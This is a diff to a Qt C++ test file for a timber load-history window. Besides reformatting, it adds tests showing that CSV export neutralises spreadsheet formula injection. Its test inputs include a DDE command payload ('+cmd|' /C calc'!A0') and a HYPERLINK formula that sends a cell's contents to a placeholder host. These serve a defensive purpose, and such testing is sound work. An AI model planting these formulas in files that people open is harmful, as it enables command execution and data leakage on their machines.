@@ -4,9 +4,10 @@
 // in-memory spreadsheet, the report and its chart, the PDF, failed reads
 // and writes, and pictures of both tabs.
 
-#include "history_samples.h"
 #include "history/load_table_model.h"
 #include "history/sqlite_history_store.h"
+#include "history_samples.h"
+#include "history_window/csv_text.h"
 #include "history_window/history.h"
 #include "history_window/report_tab.h"
 #include "records/memory_workbook.h"
@@ -45,8 +46,10 @@ QVector<LoadRecord> handCountedLoads()
         sampleLoad(LoadKind::StockIn, "2026-12-01 09:00", "杉木", "10", "2.2590", "1807.20"),
         sampleLoad(LoadKind::StockOut, "2026-12-05 10:00", "杉木", "3", "0.5000", "450.00",
             QStringLiteral("木业, \"东\"\n分号"), QStringLiteral("闽B99999")),
-        sampleLoad(LoadKind::StockIn, "2026-12-20 11:00", "松木", "7", "3.1234", "2498.72", QStringLiteral("林场乙")),
-        sampleLoad(LoadKind::Bill, "2026-12-31 16:00", "松木", "7", "3.1234", "2498.72", QStringLiteral("林场乙")),
+        sampleLoad(LoadKind::StockIn, "2026-12-20 11:00", "松木", "7", "3.1234", "2498.72",
+            QStringLiteral("林场乙")),
+        sampleLoad(LoadKind::Bill, "2026-12-31 16:00", "松木", "7", "3.1234", "2498.72",
+            QStringLiteral("林场乙")),
         sampleLoad(LoadKind::StockIn, "2027-01-01 08:00", "松木", "9", "9.0000", "1.00"),
     };
 }
@@ -65,7 +68,8 @@ void typeText(QWidget* widget, const QString& text)
 QString pdfText(const QString& path)
 {
     QProcess convert;
-    convert.start(QStringLiteral("pdftotext"), { QStringLiteral("-enc"), QStringLiteral("UTF-8"), path, QStringLiteral("-") });
+    convert.start(QStringLiteral("pdftotext"),
+        { QStringLiteral("-enc"), QStringLiteral("UTF-8"), path, QStringLiteral("-") });
     convert.waitForFinished(30000);
     return QString::fromUtf8(convert.readAllStandardOutput());
 }
@@ -122,15 +126,19 @@ public:
     bool listingBreaks = false; // after a first full page
 
     QString location() const override { return m_store.location(); }
-    HistoryResult<std::unique_ptr<LoadCursor>> listLoads(const LoadFilter& filter, LoadColumn sortBy,
-        Qt::SortOrder order) override
+    HistoryResult<std::unique_ptr<LoadCursor>> listLoads(
+        const LoadFilter& filter, LoadColumn sortBy, Qt::SortOrder order) override
     {
         if (listingBreaks)
             return std::unique_ptr<LoadCursor>(std::make_unique<BreakingCursor>(busy()));
         return m_store.listLoads(filter, sortBy, order);
     }
-    HistoryResult<KindTotals> totals(const LoadFilter& filter) override { return m_store.totals(filter); }
-    HistoryResult<QVector<ReportRow>> stockReport(const LoadFilter& filter, ReportGrouping grouping) override
+    HistoryResult<KindTotals> totals(const LoadFilter& filter) override
+    {
+        return m_store.totals(filter);
+    }
+    HistoryResult<QVector<ReportRow>> stockReport(
+        const LoadFilter& filter, ReportGrouping grouping) override
     {
         return m_store.stockReport(filter, grouping);
     }
@@ -141,8 +149,14 @@ public:
         return m_store.recordedSpecies();
     }
     HistoryResult<QStringList> recordedStations() override { return m_store.recordedStations(); }
-    HistoryResult<QStringList> recentValues(LoadColumn column) override { return m_store.recentValues(column); }
-    HistoryResult<std::optional<LoadRecord>> loadById(qint64 id) override { return m_store.loadById(id); }
+    HistoryResult<QStringList> recentValues(LoadColumn column) override
+    {
+        return m_store.recentValues(column);
+    }
+    HistoryResult<std::optional<LoadRecord>> loadById(qint64 id) override
+    {
+        return m_store.loadById(id);
+    }
 
 private:
     class BreakingCursor : public LoadCursor {
@@ -163,7 +177,11 @@ private:
         int m_pages = 0;
     };
 
-    HistoryError busy() const { return HistoryError(HistoryFailure::Locked, m_store.location(), QStringLiteral("database is locked (5)")); }
+    HistoryError busy() const
+    {
+        return HistoryError(
+            HistoryFailure::Locked, m_store.location(), QStringLiteral("database is locked (5)"));
+    }
     HistoryStore& m_store;
 };
 
@@ -180,6 +198,9 @@ private slots:
     void headingClickSortsInTheStore();
     void doubleClickAndButtonsHandOverTheWholeLoad();
     void csvHoldsWhatIsShownByteForByte();
+    void csvCellsThatWouldRunAreWrittenAsText_data();
+    void csvCellsThatWouldRunAreWrittenAsText();
+    void csvOfTypedFormulasOpensAsText();
     void aLoadBilledStockedInAndOutIsCountedOncePerKind();
     void excelRowsAreTypedNumbersAndTexts();
     void exportIntoUnwritableFolderSaysSoAndChangesNothing();
@@ -194,11 +215,26 @@ private slots:
     void picturesOfBothTabsShowEveryText();
 
 private:
-    QTableView* table() const { return m_window->findChild<QTableView*>(QStringLiteral("loadsTable")); }
-    QLabel* label(const char* name) const { return m_window->findChild<QLabel*>(QString::fromLatin1(name)); }
-    QPushButton* push(const char* name) const { return m_window->findChild<QPushButton*>(QString::fromLatin1(name)); }
-    QComboBox* combo(const char* name) const { return m_window->findChild<QComboBox*>(QString::fromLatin1(name)); }
-    QDateEdit* date(const char* name) const { return m_window->findChild<QDateEdit*>(QString::fromLatin1(name)); }
+    QTableView* table() const
+    {
+        return m_window->findChild<QTableView*>(QStringLiteral("loadsTable"));
+    }
+    QLabel* label(const char* name) const
+    {
+        return m_window->findChild<QLabel*>(QString::fromLatin1(name));
+    }
+    QPushButton* push(const char* name) const
+    {
+        return m_window->findChild<QPushButton*>(QString::fromLatin1(name));
+    }
+    QComboBox* combo(const char* name) const
+    {
+        return m_window->findChild<QComboBox*>(QString::fromLatin1(name));
+    }
+    QDateEdit* date(const char* name) const
+    {
+        return m_window->findChild<QDateEdit*>(QString::fromLatin1(name));
+    }
     QStringList column(int column) const;
     int rowOfBuyer(const QString& buyer) const;
 
@@ -214,13 +250,15 @@ private:
 void TestHistoryWindow::init()
 {
     m_dir = std::make_unique<QTemporaryDir>();
-    m_store = std::make_unique<SqliteHistoryStore>(m_dir->filePath(QStringLiteral("quorvane.sqlite")));
+    m_store
+        = std::make_unique<SqliteHistoryStore>(m_dir->filePath(QStringLiteral("quorvane.sqlite")));
     m_loads = handCountedLoads();
     for (LoadRecord& load : m_loads)
         m_store->record(load);
     m_spreadsheet = std::make_unique<MemorySpreadsheet>();
     m_window = std::make_unique<History>(*m_store, *m_spreadsheet, [] { return today; });
-    m_window->setSavePathAsker([this](const QString&, const QString&, const QString&) { return m_savePath; });
+    m_window->setSavePathAsker(
+        [this](const QString&, const QString&, const QString&) { return m_savePath; });
     m_window->show();
     QVERIFY(QTest::qWaitForWindowExposed(m_window.get()));
     m_answers = std::make_unique<TestAnswers>();
@@ -329,10 +367,13 @@ void TestHistoryWindow::filtersSelectLoadsAndTotalsAreExact()
 void TestHistoryWindow::headingClickSortsInTheStore()
 {
     QCOMPARE(column(LoadTableModel::RecordedAt),
-        (QStringList { "2026-12-31 16:00", "2026-12-20 11:00", "2026-12-05 10:00", "2026-12-01 09:00" }));
+        (QStringList {
+            "2026-12-31 16:00", "2026-12-20 11:00", "2026-12-05 10:00", "2026-12-01 09:00" }));
     QHeaderView* header = table()->horizontalHeader();
     auto clickHeading = [header](int section) {
-        const QPoint middle(header->sectionViewportPosition(section) + header->sectionSize(section) / 2, header->height() / 2);
+        const QPoint middle(
+            header->sectionViewportPosition(section) + header->sectionSize(section) / 2,
+            header->height() / 2);
         QTest::mouseClick(header->viewport(), Qt::LeftButton, {}, middle);
     };
     clickHeading(LoadTableModel::Amount);
@@ -346,7 +387,8 @@ void TestHistoryWindow::headingClickSortsInTheStore()
     // Equal amounts keep one order: by id in the same direction.
     clickHeading(LoadTableModel::Species);
     const QStringList species = column(LoadTableModel::Species);
-    QVERIFY(species == (QStringList { "杉木", "杉木", "松木", "松木" }) || species == (QStringList { "松木", "松木", "杉木", "杉木" }));
+    QVERIFY(species == (QStringList { "杉木", "杉木", "松木", "松木" })
+        || species == (QStringList { "松木", "松木", "杉木", "杉木" }));
 }
 
 void TestHistoryWindow::doubleClickAndButtonsHandOverTheWholeLoad()
@@ -360,7 +402,8 @@ void TestHistoryWindow::doubleClickAndButtonsHandOverTheWholeLoad()
 
     const int stockOut = rowOfBuyer(m_loads[2].tally.captions[Tally::Buyer].value);
     QVERIFY(stockOut >= 0);
-    const QRect cell = table()->visualRect(table()->model()->index(stockOut, LoadTableModel::Species));
+    const QRect cell
+        = table()->visualRect(table()->model()->index(stockOut, LoadTableModel::Species));
     QTest::mouseClick(table()->viewport(), Qt::LeftButton, {}, cell.center());
     QTest::mouseDClick(table()->viewport(), Qt::LeftButton, {}, cell.center());
     QCOMPARE(opened.size(), 1);
@@ -398,6 +441,68 @@ void TestHistoryWindow::csvHoldsWhatIsShownByteForByte()
               .toUtf8();
     QCOMPARE(file.readAll(), expected);
     QVERIFY(label("statusLabel")->text().contains(m_savePath));
+}
+
+// A spreadsheet program runs a cell beginning with =, +, -, @, a tab or a
+// carriage return: a typed text opens as text, the program's numbers stay numbers.
+void TestHistoryWindow::csvCellsThatWouldRunAreWrittenAsText_data()
+{
+    QTest::addColumn<QString>("text");
+    QTest::addColumn<bool>("numberColumn");
+    QTest::addColumn<QString>("field");
+    QTest::newRow("A link formula gets an apostrophe inside its quotes")
+        << "=HYPERLINK(\"http://x/?\"&A1,\"点击\")" << false
+        << "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"点击\"\")\"";
+    QTest::newRow("A command after a plus gets an apostrophe")
+        << "+cmd|' /C calc'!A0" << false << "'+cmd|' /C calc'!A0";
+    QTest::newRow("A function after an at sign gets an apostrophe")
+        << "@SUM(1)" << false << "'@SUM(1)";
+    QTest::newRow("A typed text after a minus gets an apostrophe") << "-2+3" << false << "'-2+3";
+    QTest::newRow("A typed number is a text like any other") << "-5" << false << "'-5";
+    QTest::newRow("A leading tab gets an apostrophe") << "\t=1" << false << "'\t=1";
+    QTest::newRow("A leading carriage return gets an apostrophe, quoted")
+        << "\r=1" << false << "\"'\r=1\"";
+    QTest::newRow("An equals sign inside a text is left alone") << "A=1" << false << "A=1";
+    QTest::newRow("A negative amount stays a number") << "-450.00" << true << "-450.00";
+    QTest::newRow("A whole number of pieces stays a number") << "27" << true << "27";
+    QTest::newRow("Anything else in a number column is a text") << "-1+1" << true << "'-1+1";
+}
+
+void TestHistoryWindow::csvCellsThatWouldRunAreWrittenAsText()
+{
+    QFETCH(QString, text);
+    QFETCH(bool, numberColumn);
+    QFETCH(QString, field);
+    QCOMPARE(numberColumn ? csvNumberField(text) : csvField(text), field);
+    const QByteArray row = csvBytes(
+        { { QStringLiteral("x"), text } }, numberColumn ? QSet<int> { 1 } : QSet<int> {});
+    QCOMPARE(row,
+        QByteArray("\xEF\xBB\xBF")
+            + (QStringLiteral("x,") + field + QStringLiteral("\r\n")).toUtf8());
+}
+
+// The exported file, as a spreadsheet program opens it: what was typed as
+// formulas arrives as text, the amounts as numbers.
+void TestHistoryWindow::csvOfTypedFormulasOpensAsText()
+{
+    LoadRecord load = sampleLoad(LoadKind::StockOut, "2026-12-09 14:00", "柏木", "2", "0.9000",
+        "-450.00", QStringLiteral("=HYPERLINK(\"http://x\")"), QStringLiteral("@SUM(1)"));
+    load.tally.captions[Tally::Supplier].value = QStringLiteral("+cmd|' /C calc'!A0");
+    m_store->record(load);
+    m_window->refresh();
+    QLineEdit* text = m_window->findChild<QLineEdit*>(QStringLiteral("textFilter"));
+    QVERIFY(text);
+    text->setText(QStringLiteral("SUM"));
+    QTRY_COMPARE(table()->model()->rowCount(), 1);
+    m_savePath = m_dir->filePath(QStringLiteral("公式.csv"));
+    QTest::mouseClick(push("csvButton"), Qt::LeftButton);
+    QFile file(m_savePath);
+    QVERIFY(file.open(QIODevice::ReadOnly));
+    const QString rows = QString::fromUtf8(file.readAll());
+    QVERIFY2(rows.contains(QStringLiteral(
+                 "2026-12-09,14:00:00,出库,,柏木,\"'=HYPERLINK(\"\"http://x\"\")\",'+cmd|' /C "
+                 "calc'!A0,'@SUM(1),张三,李四,2,0.9000,-450.00,\r\n")),
+        qPrintable(rows));
 }
 
 // One truck scaled once, billed, stocked in and stocked out: the totals
@@ -503,11 +608,13 @@ void TestHistoryWindow::exportIntoUnwritableFolderSaysSoAndChangesNothing()
     m_answers->setNextAnswer(MessageAnswer::Ok);
     QTest::mouseClick(push("csvButton"), Qt::LeftButton);
     QCOMPARE(m_answers->texts(),
-        QStringList(QStringLiteral("没有导出：无法保存到文件夹“%1”：没有写入权限。").arg(QFileInfo(m_savePath).absolutePath())));
+        QStringList(QStringLiteral("没有导出：无法保存到文件夹“%1”：没有写入权限。")
+                        .arg(QFileInfo(m_savePath).absolutePath())));
     QFile earlier(m_savePath);
     QVERIFY(earlier.open(QIODevice::ReadOnly));
     QCOMPARE(earlier.readAll(), QByteArray("earlier export"));
-    QCOMPARE(QDir(QFileInfo(m_savePath).absolutePath()).entryList(QDir::Files | QDir::Hidden), QStringList { "历史.csv" });
+    QCOMPARE(QDir(QFileInfo(m_savePath).absolutePath()).entryList(QDir::Files | QDir::Hidden),
+        QStringList { "历史.csv" });
     QCOMPARE(label("totalsLabel")->text(), totals);
     QCOMPARE(table()->model()->rowCount(), 4);
     QVERIFY(push("csvButton")->isEnabled());
@@ -517,14 +624,16 @@ void TestHistoryWindow::officeFailureIsNamedAndTheWindowIsFreeAgain()
 {
     m_spreadsheet->beforeOperation = [](const QString& operation) {
         if (operation == QStringLiteral("create"))
-            throw WorkbookError(WorkbookFailure::OfficeMissing, QString(), QStringLiteral("soffice not found"));
+            throw WorkbookError(
+                WorkbookFailure::OfficeMissing, QString(), QStringLiteral("soffice not found"));
     };
     m_savePath = m_dir->filePath(QStringLiteral("导出.xls"));
     QSignalSpy exported(m_window.get(), &History::exported);
     m_answers->setNextAnswer(MessageAnswer::Ok);
     QTest::mouseClick(push("excelButton"), Qt::LeftButton);
     QTRY_COMPARE_WITH_TIMEOUT(m_answers->shown.size(), 1, 10000);
-    QCOMPARE(m_answers->texts().first(), QStringLiteral("没有导出：找不到电子表格程序（LibreOffice Calc），请先安装它。"));
+    QCOMPARE(m_answers->texts().first(),
+        QStringLiteral("没有导出：找不到电子表格程序（LibreOffice Calc），请先安装它。"));
     QTRY_VERIFY(push("excelButton")->isEnabled());
     QVERIFY(push("csvButton")->isEnabled());
     QVERIFY(!QApplication::overrideCursor());
@@ -545,9 +654,12 @@ void TestHistoryWindow::reportAndChartMatchHandCounts()
         return texts;
     };
     QCOMPARE(report->rowCount(), 3);
-    QCOMPARE(rowTexts(0), (QStringList { "杉木", "10", "2.2590", "1807.20", "3", "0.5000", "450.00", "1.7590" }));
-    QCOMPARE(rowTexts(1), (QStringList { "松木", "7", "3.1234", "2498.72", "0", "0.0000", "0.00", "3.1234" }));
-    QCOMPARE(rowTexts(2), (QStringList { "合计", "17", "5.3824", "4305.92", "3", "0.5000", "450.00", "4.8824" }));
+    QCOMPARE(rowTexts(0),
+        (QStringList { "杉木", "10", "2.2590", "1807.20", "3", "0.5000", "450.00", "1.7590" }));
+    QCOMPARE(rowTexts(1),
+        (QStringList { "松木", "7", "3.1234", "2498.72", "0", "0.0000", "0.00", "3.1234" }));
+    QCOMPARE(rowTexts(2),
+        (QStringList { "合计", "17", "5.3824", "4305.92", "3", "0.5000", "450.00", "4.8824" }));
     QCOMPARE(report->horizontalHeaderItem(4)->text(), QStringLiteral("出库件数"));
 
     QChart* chart = m_window->findChild<QChartView*>(QStringLiteral("reportChart"))->chart();
@@ -569,9 +681,12 @@ void TestHistoryWindow::reportAndChartMatchHandCounts()
     date("reportTo")->setDate(QDate(2027, 1, 31));
     combo("reportGrouping")->setCurrentIndex(2);
     QCOMPARE(report->rowCount(), 4);
-    QCOMPARE(rowTexts(0), (QStringList { "2026-11", "5", "1.0000", "800.00", "0", "0.0000", "0.00", "1.0000" }));
-    QCOMPARE(rowTexts(2), (QStringList { "2027-01", "9", "9.0000", "1.00", "0", "0.0000", "0.00", "9.0000" }));
-    QCOMPARE(rowTexts(3), (QStringList { "合计", "31", "15.3824", "5106.92", "3", "0.5000", "450.00", "14.8824" }));
+    QCOMPARE(rowTexts(0),
+        (QStringList { "2026-11", "5", "1.0000", "800.00", "0", "0.0000", "0.00", "1.0000" }));
+    QCOMPARE(rowTexts(2),
+        (QStringList { "2027-01", "9", "9.0000", "1.00", "0", "0.0000", "0.00", "9.0000" }));
+    QCOMPARE(rowTexts(3),
+        (QStringList { "合计", "31", "15.3824", "5106.92", "3", "0.5000", "450.00", "14.8824" }));
     QCOMPARE(report->horizontalHeaderItem(0)->text(), QStringLiteral("月份"));
 }
 
@@ -584,8 +699,10 @@ void TestHistoryWindow::reportPrintsAsPdfWithItsTitle()
     QVERIFY(pdf.open(QIODevice::ReadOnly));
     QVERIFY(pdf.read(5) == "%PDF-");
     const QString text = pdfText(m_savePath);
-    QVERIFY2(text.contains(QStringLiteral("木材出入库报表（按树种）2026-12-01 至 2026-12-31")), qPrintable(text));
-    QVERIFY2(text.contains(QStringLiteral("杉木")) && text.contains(QStringLiteral("4.8824")), qPrintable(text));
+    QVERIFY2(text.contains(QStringLiteral("木材出入库报表（按树种）2026-12-01 至 2026-12-31")),
+        qPrintable(text));
+    QVERIFY2(text.contains(QStringLiteral("杉木")) && text.contains(QStringLiteral("4.8824")),
+        qPrintable(text));
     QVERIFY(label("statusLabel")->text().contains(m_savePath));
 }
 
@@ -598,7 +715,8 @@ void TestHistoryWindow::failedReadIsShownInTheWindowNotInBoxes()
     }
     m_window->refresh();
     QLabel* status = label("statusLabel");
-    QCOMPARE(status->text(), QStringLiteral("合计读不出来：历史数据库“quorvane.sqlite”出错，请稍后再试。"));
+    QCOMPARE(status->text(),
+        QStringLiteral("合计读不出来：历史数据库“quorvane.sqlite”出错，请稍后再试。"));
     QCOMPARE(table()->model()->rowCount(), 0);
     QVERIFY(!push("openButton")->isEnabled());
     {
@@ -618,7 +736,8 @@ void TestHistoryWindow::damagedLoadIsNotHandedOver()
     {
         SqliteHistoryStore other(m_store->location());
         QSqlQuery damage(other.database());
-        QVERIFY(damage.exec(QStringLiteral("UPDATE loads SET detail = '{\"grid\": 3' WHERE id = %1").arg(m_loads[1].id)));
+        QVERIFY(damage.exec(QStringLiteral("UPDATE loads SET detail = '{\"grid\": 3' WHERE id = %1")
+                                .arg(m_loads[1].id)));
     }
     QSignalSpy opened(m_window.get(), &History::openLoadRequested);
     table()->selectRow(3); // the oldest of the month
@@ -637,7 +756,8 @@ void TestHistoryWindow::speciesNotReadIsSaidUntilTheyAre()
     reader.speciesFail = true;
     History window(reader, *m_spreadsheet, [] { return today; });
     auto* status = window.findChild<QLabel*>(QStringLiteral("statusLabel"));
-    const QString said = QStringLiteral("树种读不出来：历史数据库“quorvane.sqlite”正被其他程序占用，请稍后再试。");
+    const QString said
+        = QStringLiteral("树种读不出来：历史数据库“quorvane.sqlite”正被其他程序占用，请稍后再试。");
     QCOMPARE(status->text(), said);
     window.findChild<QComboBox*>(QStringLiteral("kindFilter"))->setCurrentIndex(1);
     QCOMPARE(window.findChild<QLabel*>(QStringLiteral("totalsLabel"))->text(),
@@ -656,7 +776,8 @@ void TestHistoryWindow::exportOfRowsNotAllReadWritesNothing()
     reader.listingBreaks = true;
     History window(reader, *m_spreadsheet, [] { return today; });
     m_savePath = m_dir->filePath(QStringLiteral("断开.csv"));
-    window.setSavePathAsker([this](const QString&, const QString&, const QString&) { return m_savePath; });
+    window.setSavePathAsker(
+        [this](const QString&, const QString&, const QString&) { return m_savePath; });
     QSignalSpy exported(&window, &History::exported);
     QTest::mouseClick(window.findChild<QPushButton*>(QStringLiteral("csvButton")), Qt::LeftButton);
     QCOMPARE(exported.size(), 0);
@@ -670,16 +791,20 @@ void TestHistoryWindow::refreshShowsNewLoadsKeepingFiltersAndSort()
     combo("kindFilter")->setCurrentIndex(1);
     table()->horizontalHeader()->setSortIndicator(LoadTableModel::Volume, Qt::AscendingOrder);
     QCOMPARE(column(LoadTableModel::Volume), (QStringList { "2.2590", "3.1234" }));
-    LoadRecord cypress = sampleLoad(LoadKind::StockIn, "2026-12-09 14:00", "柏木", "2", "0.9000", "720.00");
+    LoadRecord cypress
+        = sampleLoad(LoadKind::StockIn, "2026-12-09 14:00", "柏木", "2", "0.9000", "720.00");
     m_store->record(cypress);
-    LoadRecord elsewhere = sampleLoad(LoadKind::StockIn, "2026-12-09 15:00", "柏木", "1", "0.1000", "80.00");
+    LoadRecord elsewhere
+        = sampleLoad(LoadKind::StockIn, "2026-12-09 15:00", "柏木", "1", "0.1000", "80.00");
     elsewhere.station = QStringLiteral("二站");
     elsewhere.stationNumber = 7;
     QVERIFY(m_store->receive(elsewhere));
     m_window->refresh();
-    QCOMPARE(column(LoadTableModel::Volume), (QStringList { "0.1000", "0.9000", "2.2590", "3.1234" }));
+    QCOMPARE(
+        column(LoadTableModel::Volume), (QStringList { "0.1000", "0.9000", "2.2590", "3.1234" }));
     QCOMPARE(combo("speciesFilter")->findText(QStringLiteral("柏木")), 3);
-    QCOMPARE(label("totalsLabel")->text(), QStringLiteral("共 4 车，件数 20，材积 6.3824 m³，金额 5105.92 元"));
+    QCOMPARE(label("totalsLabel")->text(),
+        QStringLiteral("共 4 车，件数 20，材积 6.3824 m³，金额 5105.92 元"));
 
     QVERIFY(table()->isColumnHidden(LoadTableModel::Station));
     QVERIFY(!combo("stationFilter")->isVisible());
@@ -688,17 +813,19 @@ void TestHistoryWindow::refreshShowsNewLoadsKeepingFiltersAndSort()
     QComboBox* stations = combo("stationFilter");
     QVERIFY(stations->isVisible());
     stations->setCurrentIndex(stations->findText(QStringLiteral("二站")));
-    QCOMPARE(label("totalsLabel")->text(), QStringLiteral("共 1 车，件数 1，材积 0.1000 m³，金额 80.00 元"));
+    QCOMPARE(label("totalsLabel")->text(),
+        QStringLiteral("共 1 车，件数 1，材积 0.1000 m³，金额 80.00 元"));
 }
 
 // The pictures are kept for a look; the test checks what a look would:
 // every figure and heading fits its column, and the chart has its bars.
 void TestHistoryWindow::picturesOfBothTabsShowEveryText()
 {
-    LoadRecord big = sampleLoad(LoadKind::Bill, "2026-12-08 07:30", "落叶松", "99999", "99999.9999", "9999999.99",
-        QStringLiteral("某某县木材有限公司"));
+    LoadRecord big = sampleLoad(LoadKind::Bill, "2026-12-08 07:30", "落叶松", "99999", "99999.9999",
+        "9999999.99", QStringLiteral("某某县木材有限公司"));
     m_store->record(big);
-    LoadRecord larch = sampleLoad(LoadKind::StockIn, "2026-12-08 08:10", "落叶松", "12", "4.5000", "3600.00");
+    LoadRecord larch
+        = sampleLoad(LoadKind::StockIn, "2026-12-08 08:10", "落叶松", "12", "4.5000", "3600.00");
     m_store->record(larch);
     m_window->refresh();
     const QString folder = QStringLiteral(QUORVANE_SCREENSHOTS);
@@ -707,14 +834,19 @@ void TestHistoryWindow::picturesOfBothTabsShowEveryText()
     const QFontMetrics metrics = table()->fontMetrics();
     const QFontMetrics headingMetrics = table()->horizontalHeader()->fontMetrics();
     for (int c = 0; c <= LoadTableModel::Amount; ++c) {
-        int widest = headingMetrics.horizontalAdvance(table()->model()->headerData(c, Qt::Horizontal).toString()) + 16;
+        int widest = headingMetrics.horizontalAdvance(
+                         table()->model()->headerData(c, Qt::Horizontal).toString())
+            + 16;
         for (const QString& text : column(c))
             widest = std::max(widest, metrics.horizontalAdvance(text) + 8);
         QVERIFY2(table()->columnWidth(c) >= widest,
-            qPrintable(QStringLiteral("column %1 is %2 wide, its texts %3").arg(c).arg(table()->columnWidth(c)).arg(widest)));
+            qPrintable(QStringLiteral("column %1 is %2 wide, its texts %3")
+                           .arg(c)
+                           .arg(table()->columnWidth(c))
+                           .arg(widest)));
     }
     for (const QString& line : label("totalsLabel")->text().split(u'\n'))
-        QVERIFY(label("totalsLabel")->fontMetrics().horizontalAdvance(line) <= label("totalsLabel")->width());
+        QVERIFY(metrics.horizontalAdvance(line) <= label("totalsLabel")->width());
 
     m_window->findChild<QTabWidget*>(QStringLiteral("tabs"))->setCurrentIndex(1);
     auto* report = m_window->findChild<QTableWidget*>(QStringLiteral("reportTable"));
@@ -727,7 +859,8 @@ void TestHistoryWindow::picturesOfBothTabsShowEveryText()
     QVERIFY(QFileInfo::exists(m_savePath));
     for (int c = 0; c < report->columnCount(); ++c)
         for (int r = 0; r < report->rowCount(); ++r)
-            QVERIFY(report->columnWidth(c) >= report->fontMetrics().horizontalAdvance(report->item(r, c)->text()));
+            QVERIFY(report->columnWidth(c)
+                >= report->fontMetrics().horizontalAdvance(report->item(r, c)->text()));
     auto* bars = qobject_cast<QBarSeries*>(
         m_window->findChild<QChartView*>(QStringLiteral("reportChart"))->chart()->series().first());
     QCOMPARE(bars->barSets()[0]->count(), 3);
